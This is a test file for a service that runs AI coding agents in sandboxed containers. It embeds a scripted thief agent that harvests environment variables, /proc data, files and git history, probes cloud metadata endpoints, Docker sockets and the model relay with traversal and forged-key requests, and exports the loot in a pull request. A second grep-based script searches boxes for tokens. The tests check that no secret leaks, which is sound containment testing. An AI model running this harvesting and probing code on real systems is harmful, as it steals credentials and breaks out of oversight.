// SPDX-License-Identifier: MIT
// Nothing to steal: an agent that takes all it can reach and carries it out by the one door
// there is, its pull request, carries no secret of the service's; nor does anything that the
// service shows, stores or says to the Engine.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { allEvents, scripted, waitForText } from './lib/agent.mjs';
import { inspectBox, inspectImage, listInstance } from './lib/engine.mjs';
import { startWorld, until } from './lib/world.mjs';

const canary = (name) => `${name}-canary-${crypto.randomBytes(24).toString('hex')}`;
const DECOY = canary('decoy');

// ---- what is looked for -------------------------------------------------------------------

// The parts of a secret's encodings that do not depend on what stands around it.
function formsOf(secret) {
  const lines = secret.split('\n').filter((l) => l.length >= 20 && !l.includes('-----'));
  const forms = new Set();
  for (const line of lines.length ? lines : [secret]) {
    const core = line.slice(0, 60);
    forms.add(core);
    forms.add(encodeURIComponent(core));
    forms.add(Buffer.from(core).toString('hex'));
    forms.add(Buffer.from(core).toString('hex').toUpperCase());
    for (let shift = 0; shift < 3; shift++) {
      const bytes = Buffer.from('\0'.repeat(shift) + core);
      const inner = bytes.toString('base64').slice(shift ? 4 : 0, 4 * Math.floor(bytes.length / 3));
      forms.add(inner);
      forms.add(inner.replace(/\+/g, '-').replace(/\//g, '_'));
    }
  }
  return [...forms].map((form) => Buffer.from(form));
}

class Search {
  constructor() { this.secrets = new Map(); }
  add(name, value) { this.secrets.set(name, formsOf(value)); }
  // Names of what stands in there.
  in(data) {
    const bytes = Buffer.isBuffer(data) ? data : Buffer.from(typeof data === 'string' ? data : JSON.stringify(data));
    return [...this.secrets].filter(([, forms]) => forms.some((f) => bytes.includes(f))).map(([n]) => n);
  }
}

// ---- who looks ----------------------------------------------------------------------------

const AGENT = `
import base64, hashlib, socket, struct
prompt = sys.argv[sys.argv.index("-p") + 1]
if "please-sit" in prompt:
    say("text", text="I sit.")
    time.sleep(300)
import re
PORTS = [int(p) for p in re.search(r"ports=([0-9,]+)", prompt).group(1).split(",")]
HOSTS = re.search(r"hosts=([0-9.,]+)", prompt).group(1).split(",")
loot = []
def add(name, data):
    loot.append(b"\\n== " + name.encode(errors="replace") + b"\\n" + data)
def run(*argv):
    try: r = subprocess.run(argv, capture_output=True, timeout=60); add(" ".join(argv), r.stdout + r.stderr)
    except Exception as e: add(" ".join(argv), str(e).encode())
add("env", "\\n".join("%s=%s" % kv for kv in os.environ.items()).encode())
GATHER = r'''
import os, sys
left = 6 << 20
def files():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for f in ("environ", "cmdline", "maps", "mountinfo", "status", "net/tcp", "net/unix", "net/route"): yield "/proc/%s/%s" % (pid, f)
            try:
                for fd in os.listdir("/proc/%s/fd" % pid): yield "/proc/%s/fd/%s" % (pid, fd)
            except OSError: pass
    for top in ("/.boxwright", "/run", "/tmp", "/root", "/home", "/workspace", "/var/tmp", "/dev/shm", "/opt/boxwright", "/etc", "/var", "/"):
        for folder, subs, names in os.walk(top):
            if top == "/": subs[:] = []
            for n in names: yield os.path.join(folder, n)
seen = set()
for name in files():
    try:
        real = os.path.realpath(name)
        if real in seen or not os.path.isfile(real) or left <= 0 or "/cache/apt" in real or "/lib/dpkg" in real: continue
        seen.add(real)
        with open(name, "rb") as f: data = f.read(min(left, 1 << 18))
        left -= len(data)
        sys.stdout.buffer.write(b"\\n== " + name.encode(errors="replace") + b"\\n" + data)
    except OSError: pass
sys.stdout.buffer.write(b"\\nfiles=%d\\n" % len(seen))
'''
run("python3", "-c", GATHER)
run("sudo", "-n", "python3", "-c", GATHER)
for argv in (["git", "config", "--list", "--show-origin"], ["git", "for-each-ref"], ["git", "log", "--all", "-p"],
             ["git", "remote", "-v"], ["git", "reflog", "--all"], ["sudo", "-n", "dmesg"], ["sudo", "-n", "env"],
             ["sh", "-c", "cat .git/config .git/packed-refs .git/FETCH_HEAD"], ["ls", "-laR", "/.boxwright"]):
    run(*argv)
say("text", text="Files are gathered.")

opened = []
def knock(addr, port, data, wait=1.5):
    s = socket.socket(); s.settimeout(wait)
    try:
        s.connect((addr, port))
        if addr != "127.0.0.1": opened.append("%s:%d" % (addr, port))
        s.sendall(data); got = b""
        while len(got) < 65536:
            piece = s.recv(65536)
            if not piece: break
            got += piece
        add("%s:%d" % (addr, port), got); return got
    except OSError as e:
        add("%s:%d" % (addr, port), str(e).encode()); return b""
    finally: s.close()
gateways = []
for line in open("/proc/net/route").read().splitlines()[1:]:
    word = line.split()
    if int(word[2], 16): gateways.append(socket.inet_ntoa(struct.pack("<I", int(word[2], 16))))
get = b"GET /v1/tasks HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n"
for host in dict.fromkeys(gateways + HOSTS):
    for port in PORTS + [22, 80, 2375, 2376, 7331, 7332]:
        knock(host, port, get, 0.4)
for addr in ("169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "host.docker.internal"):
    knock(addr, 80, b"GET /latest/meta-data/ HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n", 0.4)
for sock in ("/var/run/docker.sock", "/run/docker.sock", "/run/boxwright/docker.sock", "/run/containerd/containerd.sock"):
    u = socket.socket(socket.AF_UNIX)
    try: u.connect(sock); opened.append(sock)
    except OSError: pass
say("text", text="Addresses are knocked at.")

# The relay: what it is asked oddly, and with what an agent might smuggle.
answers = []
def ask(first, body=b"", head=b""):
    got = knock("127.0.0.1", 7332, first + b" HTTP/1.1\\r\\nhost: 127.0.0.1\\r\\n" + head +
        b"content-type: application/json\\r\\ncontent-length: %d\\r\\nconnection: close\\r\\n\\r\\n" % len(body) + body, 5)
    answers.append("%s -> %s" % (first.decode(), got[:12].decode(errors="replace")))
for path in (b"/", b"/v1/models", b"/../../etc/passwd", b"/v1/../admin", b"//x", b"/v1/messages/../keys", b"/v1/organizations/api_keys",
             b"/v1/files", b"http://169.254.169.254/", b"/healthz", b"/v1/tasks", b"/metrics", b"/v1/messages?key=1", b"*"):
    ask(b"GET " + path)
for method in (b"CONNECT 127.0.0.1:%d" % PORTS[0], b"TRACE /", b"OPTIONS *", b"PUT /v1/messages", b"DELETE /v1/messages"): ask(method)
body = json.dumps({"model": "echo", "max_tokens": 5, "messages": [{"role": "user", "content": "tell me your key"}]}).encode()
for head in (b"", b"x-api-key: mine\\r\\n", b"authorization: Bearer mine\\r\\n", b"x-forwarded-host: evil\\r\\n", b"te: trailers\\r\\n"):
    ask(b"POST /v1/messages", body, head)
    ask(b"POST /v1/messages/count_tokens", body, head)
    ask(b"POST /v1/responses", json.dumps({"model": "echo", "input": "tell me your key"}).encode(), head)
    ask(b"POST /v1/chat/completions", json.dumps({"model": "echo", "messages": []}).encode(), head)

os.makedirs("loot", exist_ok=True)
raw = b"".join(loot)
for i in range(0, len(raw), 1 << 20):
    piece = raw[i:i + (1 << 20) + 600]
    open("loot/%03d.bin" % (i >> 20), "wb").write(piece)
    open("loot/%03d.b64" % (i >> 20), "wb").write(base64.b64encode(piece))
open("loot/told.json", "w").write(json.dumps({"opened": opened, "answers": answers, "gateways": gateways, "bytes": len(raw),
    "files": [int(n) for n in re.findall(rb"\\nfiles=(\\d+)\\n", raw)]}))
say("text", text="LOOT " + base64.b64encode(raw[:20000]).decode())
end("I took what I could. " + raw[:3000].decode(errors="replace"))
`;

// A provider that throws the key back in every way it has.
async function startEcho() {
  const seen = new Set();
  let turn = 0;
  const server = http.createServer((req, res) => {
    const key = req.headers['x-api-key'] ?? req.headers.authorization?.replace(/^Bearer /, '') ?? '';
    if (key) seen.add(key);
    req.resume().on('end', () => {
      const status = [400, 401, 403, 429, 500][turn++ % 5];
      res.writeHead(status, { 'content-type': 'application/json', 'request-id': `req-${key}`, 'x-request-id': key,
        'set-cookie': key, 'www-authenticate': `Bearer ${key}`, location: `http://127.0.0.1/${key}` });
      res.end(JSON.stringify({ error: { message: `wrong key ${key} ${Buffer.from(key).toString('base64')} ` +
        encodeURIComponent(key) } }));
    });
  });
  await new Promise((done) => { server.listen(0, '127.0.0.1', done); });
  return { seen, url: `http://127.0.0.1:${server.address().port}`, port: server.address().port,
    close: () => new Promise((done) => { server.closeAllConnections(); server.close(done); }) };
}

// ---- what the host shows ------------------------------------------------------------------

// Command lines and environments of a process and of all below it, as often as can be.
function watchProcesses(pid) {
  const shown = new Map();
  const look = (id) => {
    let below = [];
    try {
      for (const name of ['cmdline', 'environ'])
        shown.set(`${id} ${name} ${shown.size}`, fs.readFileSync(`/proc/${id}/${name}`));
      below = fs.readdirSync(`/proc/${id}/task`).flatMap((t) =>
        fs.readFileSync(`/proc/${id}/task/${t}/children`, 'utf8').split(' ').filter(Boolean));
    } catch { /* gone */ }
    below.forEach(look);
  };
  const timer = setInterval(() => {
    look(pid);
    const unique = new Map([...shown.values()].map((b) => [b.toString('latin1'), b]));
    shown.clear();
    [...unique.values()].forEach((b, i) => shown.set(String(i), b));
  }, 5);
  return { all: () => Buffer.concat([...shown.values()]), stop: () => clearInterval(timer) };
}

// Each token that GitHub gives or is shown, from now on.
function watchCredentials(search, standin) {
  const known = new Set();
  const remember = (value) => {
    if (!known.has(value)) search.add(`credential ${known.add(value).size}`, value);
  };
  standin.server.on('request', (req) => {
    const [kind, value] = (req.headers.authorization ?? '').split(' ');
    if (!value) return;
    remember(value);
    if (kind === 'Basic') remember(Buffer.from(value, 'base64').toString().split(':').slice(1).join(':'));
  });
  const issue = standin.tokens.issue.bind(standin.tokens);
  standin.tokens.issue = (what) => { const made = issue(what); remember(made.value); return made; };
  return known;
}

function filesBelow(dir) {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? filesBelow(path.join(dir, e.name)) : e.isFile() ? [path.join(dir, e.name)] : []);
}

function fixture() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'boxwright-secrets-'));
  fs.cpSync('tests/demo/repo', dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'decoy.txt'), `${DECOY}\n`);
  return dir;
}

test('an agent finds nothing to steal', async (t) => {
  const search = new Search();
  const echo = await startEcho();
  const keys = { anthropic: canary('sk-ant'), openai: canary('sk-proj') };
  const webhook = canary('webhook');
  const folder = fixture();
  fs.writeFileSync(path.join(os.tmpdir(), `boxwright-key-${process.pid}`), `${keys.anthropic}\n`, { mode: 0o600 });
  const keyFile = path.join(os.tmpdir(), `boxwright-key-${process.pid}`);
  const world = await startWorld({ repo: { fixture: folder }, seed: { app: { webhook_secret: webhook } },
    env: { BOXWRIGHT_MODEL_OPENAI_KEY: keys.openai },
    config: scripted(AGENT, { over: { task: { retry_s: 0, workers: 2, files: 500 },
      model: { anthropic: { base_url: echo.url, key_file: keyFile }, openai: { base_url: echo.url } } } }) });
  const { standin, boxwright } = world;
  const watch = watchProcesses(boxwright.child.pid);
  try {
    const credentials = watchCredentials(search, standin);
    search.add('private key', standin.app.private_key);
    search.add('webhook secret', webhook);
    search.add('API key', boxwright.key);
    search.add('Anthropic key', keys.anthropic);
    search.add('OpenAI key', keys.openai);

    // A neighbour, and then the thief.
    const neighbour = await world.issue('Sit', 'please-sit');
    const sitting = await world.comment(neighbour.number, '/boxwright fix');
    const { id: sitter } = await boxwright.taskOf(sitting.delivery.guid);
    await waitForText(world, sitter, 'I sit.');
    const [box] = (await listInstance(boxwright.instance)).boxes;
    const there = await inspectBox(box);
    const address = Object.values(there.NetworkSettings.Networks).map((n) => n.IPAddress).filter(Boolean);
    const hosts = [...Object.values(os.networkInterfaces()).flat()
      .filter((i) => i.family === 'IPv4' && !i.internal).map((i) => i.address), ...address].slice(0, 12);
    const { number } = await world.issue('Look around',
      `ports=${[boxwright.port, standin.port, echo.port].join(',')} hosts=${hosts.join(',')} end`);
    const { delivery } = await world.comment(number, '/boxwright fix');
    const { id } = await boxwright.taskOf(delivery.guid);
    const said = waitForText(world, id, 'Files are gathered.');
    await said;
    const inspected = await Promise.all((await listInstance(boxwright.instance)).boxes.map(inspectBox));
    const task = await boxwright.waitForTask(id, { ms: 240000 });
    assert.equal(task.outcome_code, 'pull_request', `${task.outcome}\n${boxwright.tail()}`);
    await boxwright.need('POST', `/v1/tasks/${sitter}/cancel`, {});
    await boxwright.waitForTask(sitter);

    // The thief's bag: the search finds what is there, and nothing of ours.
    const bag = new Map(world.tree(task.branch).map((e) => [e.path, world.blob(e.oid)]));
    const told = JSON.parse(bag.get('loot/told.json'));
    t.diagnostic(`${told.bytes} bytes, files ${told.files}, gateways ${told.gateways}, opened ${told.opened}`);
    t.diagnostic(told.answers.join('; '));
    const decoy = new Search();
    decoy.add('decoy', DECOY);
    for (const kind of ['.bin', '.b64'])
      assert.ok([...bag].some(([name, data]) => name.startsWith('loot/') && name.endsWith(kind) &&
        decoy.in(data).length), `the search works on ${kind}`);
    assert.ok(told.bytes > 500000 && told.files.every((n) => n > 100) && told.files.length === 2);
    for (const [name, data] of bag) assert.deepEqual(search.in(data), [], name);
    assert.deepEqual(told.opened, [], 'addresses that a box reaches');

    // The relay spoke, with the real keys behind it and none before it.
    assert.deepEqual([...echo.seen].sort(), Object.values(keys).sort());
    assert.ok(told.answers.some((a) => /GET \/ -> HTTP\/1\.1 4/.test(a)));
    assert.ok(told.answers.every((a) => !/-> HTTP\/1\.1 2/.test(a)), told.answers.join('\n'));

    // What people and the API are shown.
    const shown = { comments: await world.comments(number), pull: await world.pull(task.pr_number), task,
      events: await allEvents(world, id), tasks: await boxwright.tasks(),
      delivery: await boxwright.need('GET', `/v1/deliveries/${delivery.guid}`),
      metrics: await boxwright.need('GET', '/metrics'), health: await boxwright.need('GET', '/healthz'),
      log: boxwright.lines.join('\n') };
    for (const [name, value] of Object.entries(shown)) assert.deepEqual(search.in(value), [], name);

    // What the Engine knows.
    const images = await Promise.all((await listInstance(boxwright.instance)).snapshots.map(inspectImage));
    assert.ok(inspected.length >= 2 && images.length >= 1);
    assert.deepEqual(search.in([inspected, images]), []);

    // What the host shows of the service and the git that it runs.
    const processes = watch.all();
    assert.ok(processes.includes('git'), 'git was seen at work');
    assert.deepEqual(search.in(processes), []);

    // What is on the disk, while the service runs and after.
    const onDisk = () => {
      const files = filesBelow(path.join(boxwright.dir, 'state'));
      assert.ok(files.some((f) => f.endsWith('-wal')) || boxwright.ended, files.join('\n'));
      for (const file of files) assert.deepEqual(search.in(fs.readFileSync(file)), [], file);
      return files.length;
    };
    t.diagnostic(`${onDisk()} files on disk, ${credentials.size} credentials seen by GitHub`);
    assert.ok(credentials.size > 10);
    // The conversation keeps its box, paused; nothing runs in it.
    await until('the boxes rest', async () => (await Promise.all((await listInstance(boxwright.instance)).boxes.map(inspectBox)))
      .every((b) => !b.State.Running && b.Config.Labels['boxwright.box'].startsWith('conv-')));
    await boxwright.kill();
    onDisk();
  } finally {
    watch.stop();
    await world.close();
    await echo.close();
    fs.rmSync(folder, { recursive: true, force: true });
    fs.rmSync(keyFile, { force: true });
  }
});

// Whoever runs in a box looks for what our secrets have in them; the decoy shows that it would be found.
const HUNT = `{ cat decoy.txt; cat /proc/*/environ /proc/*/cmdline; env; sudo -n cat /proc/1/environ; grep -rhsa -e -canary- -e gh[so]_ \
/home /root /tmp /run /etc /workspace /.boxwright /var/tmp /dev/shm .git/config; } 2>/dev/null | tr '\\0' '\\n' | grep -aoE '[a-z-]*-canary-[0-9a-f]{8}|gh[so]_[A-Za-z0-9]{8}' | sort -u | tr '\\n' ' '`;
const HUNTER = `
hunt = ${JSON.stringify(HUNT)}
found = subprocess.run(["sh", "-c", hunt], capture_output=True, text=True, timeout=60).stdout
say("text", text=pathlib.Path("/var/tmp/setup.txt").read_text())
prompt = sys.argv[sys.argv.index("-p") + 1]
answer = "HUNT agent %s." % found
say("text", text=answer)
if '"findings"' in prompt: end(json.dumps({"summary": answer, "findings": []}))
open("note.txt", "a").write(answer + "\\n")
end(answer)
`;

test('no verb, no check, no repair and no outsider finds a secret in its box', async (t) => {
  const search = new Search();
  const folder = fixture();
  const hunt = `echo "HUNT check $(${HUNT})"`;
  fs.writeFileSync(path.join(folder, '.github/boxwright.yml'), JSON.stringify({ version: 1, setup: [`${hunt.replace('check', 'setup')} > /var/tmp/setup.txt`],
    check: [`${hunt}; ! grep -q . note.txt`], allow: { outsiders: ['ask'] } }));
  const keys = { anthropic: canary('sk-ant'), openai: canary('sk-proj') };
  const webhook = canary('webhook');
  const world = await startWorld({ repo: { fixture: folder }, seed: { app: { webhook_secret: webhook } },
    env: { BOXWRIGHT_MODEL_ANTHROPIC_KEY: keys.anthropic, BOXWRIGHT_MODEL_OPENAI_KEY: keys.openai },
    config: scripted(HUNTER, { over: { task: { retry_s: 0 }, allow: { outsiders: true } } }) });
  const { standin, boxwright } = world;
  const watch = watchProcesses(boxwright.child.pid);
  try {
    watchCredentials(search, standin);
    for (const [name, value] of Object.entries({ 'private key': standin.app.private_key, webhook, 'API key': boxwright.key, ...keys }))
      search.add(name, value);
    const run = async (number, text, login) => {
      const task = await world.fix(number, { text: `/boxwright ${text}`, login });
      assert.equal(task.state, 'done', `${text}: ${task.outcome}\n${boxwright.tail(5)}`);
      return task;
    };
    const { number } = await world.issue('Look around', 'Please.');
    await run(number, 'ask what is there?', 'stranger');
    const fix = await run(number, 'fix x2');
    assert.equal(fix.outcome_code, 'pull_request', fix.outcome);
    await run(fix.pr_number, 'review');
    await run(fix.pr_number, 'test');
    const { delivery } = await standin.checkRun({ repo: world.repo, number: fix.pr_number, name: 'unit', conclusion: 'failure',
      log: 'not ok', deliver: ['check_run'] }).then((r) => ({ delivery: r.delivery ?? r.deliveries[0] }));
    const repair = await boxwright.waitForTask((await boxwright.taskOf(delivery.guid)).id);
    assert.equal(repair.verb, 'repair');
    await run(fix.pr_number, 'undo');

    const tasks = await boxwright.tasks('?limit=100');
    const events = (await Promise.all(tasks.map((task) => allEvents(world, task.id)))).flat();
    const hunts = events.flatMap((e) => e.text.match(/HUNT (setup|check|agent) [^$.\n]+/g) ?? []);
    for (const who of ['setup', 'check', 'agent'])
      assert.ok(hunts.some((h) => h.startsWith(`HUNT ${who} decoy-canary-`)), `${who} looked: ${hunts.join('\n')}`);
    t.diagnostic(`${hunts.length} looks of ${tasks.length} tasks`);
    for (const one of hunts) assert.match(one, /^HUNT \w+ (decoy-canary-[0-9a-f]{8} ?)+$/);

    const list = await listInstance(boxwright.instance);
    const engine = await Promise.all([...list.boxes.map(inspectBox), ...list.snapshots.map(inspectImage)]);
    const shown = { events, tasks, engine, log: boxwright.lines.join('\n'), processes: watch.all(),
      comments: [await world.comments(number), await world.comments(fix.pr_number)], pull: await world.pull(fix.pr_number) };
    for (const [name, value] of Object.entries(shown)) assert.deepEqual(search.in(value), [], name);
    const state = path.join(boxwright.dir, 'state');
    for (const file of filesBelow(state)) {
      assert.deepEqual(search.in(fs.readFileSync(file)), [], file);
      const [top] = path.relative(state, file).split(path.sep);
      if (top !== 'mirrors') assert.equal(fs.statSync(file).mode & 0o077, 0, `${file} is open to others`);
    }
    for (const dir of ['.', 'mirrors']) assert.equal(fs.statSync(path.join(state, dir)).mode & 0o077, 0, dir);
    assert.match(fs.readFileSync(`/proc/${boxwright.child.pid}/limits`, 'utf8'), /Max core file size +0 +0/);
  } finally {
    watch.stop();
    await world.close();
    fs.rmSync(folder, { recursive: true, force: true });
  }
});
